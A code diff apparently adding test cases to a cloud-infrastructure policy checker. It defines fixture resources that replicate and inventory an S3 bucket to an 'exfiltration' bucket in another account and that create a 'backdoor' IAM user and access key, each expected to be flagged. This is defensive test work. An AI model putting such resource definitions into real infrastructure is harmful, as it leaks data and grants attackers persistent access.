@@ -136,6 +136,25 @@ def tls_deny_via_aws_service(plan: Plan) -> None:
         "Bool"].update({"aws:ViaAWSService": "true"}))
 
 
+def extra_resource(type_token: str, name: str, inputs: dict[str, Any]) -> Callable[[Plan], None]:
+    """A resource of a type the planner never emits, added next to the product's bucket."""
+    def edit(plan: Plan) -> None:
+        bucket = resource(plan, PRODUCT)
+        plan["resources"].append({"type": type_token, "name": name, "parent": bucket["parent"],
+                                  "provider": bucket["provider"], "domain": "player", "product": PRODUCT,
+                                  "inputs": inputs, "options": {}})
+    return edit
+
+
+REPLICATION = extra_resource("aws:s3/bucketReplicationConfig:BucketReplicationConfig", f"{PRODUCT}.replication", {
+    "bucket": "daff-dev--player--play-events", "role": "arn:aws:iam::999988887777:role/replicator",
+    "rules": [{"status": "Enabled", "destination": {"bucket": "arn:aws:s3:::exfiltration"}}]})
+IAM_USER = extra_resource("aws:iam/user:User", "player.backdoor-user", {"name": "backdoor"})
+ACCESS_KEY = extra_resource("aws:iam/accessKey:AccessKey", "player.backdoor-key", {"user": "backdoor"})
+INVENTORY = extra_resource("aws:s3/inventory:Inventory", f"{PRODUCT}.inventory", {
+    "bucket": "daff-dev--player--play-events", "includedObjectVersions": "All",
+    "destination": {"bucket": {"bucketArn": "arn:aws:s3:::exfiltration", "format": "CSV"}}})
+
 BUCKET_POLICY, KEY = f"{PRODUCT}.policy", "player.key"
 FINDINGS: dict[str, tuple[Callable[[Plan], None], set[tuple[str, str]]]] = {
     "bucket policy allows GetObject to another domain's role": (extra_bucket_read, {
@@ -162,6 +181,11 @@ FINDINGS: dict[str, tuple[Callable[[Plan], None], set[tuple[str, str]]]] = {
         ("mesh-grant-matches-spec", f"{PRODUCT}.grant.artist-payments.access-point")}),
     "TLS Deny also conditioned on aws:ViaAWSService": (tls_deny_via_aws_service, {
         ("mesh-bucket-tls-only", BUCKET_POLICY)}),
+    "bucket replication to another account's bucket": (REPLICATION, {
+        ("mesh-resource-types-allowed", f"{PRODUCT}.replication")}),
+    "S3 inventory to another bucket": (INVENTORY, {("mesh-resource-types-allowed", f"{PRODUCT}.inventory")}),
+    "an IAM user": (IAM_USER, {("mesh-resource-types-allowed", "player.backdoor-user")}),
+    "an IAM access key": (ACCESS_KEY, {("mesh-resource-types-allowed", "player.backdoor-key")}),
 }
 
 
